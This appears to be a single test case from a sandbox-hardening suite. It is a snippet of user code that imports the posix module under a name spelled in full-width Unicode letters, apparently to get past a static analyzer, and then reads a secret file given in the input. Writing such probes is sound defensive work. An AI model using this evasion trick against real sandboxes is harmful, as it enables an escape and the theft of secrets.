# class: import machinery
# technique: a name of full-width letters, which the parser normalises
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
import ｐｏｓｉｘ as reached
return [{"json": {"reached": reached.read(reached.open(host["secret"], 0), 4096).decode()}}]
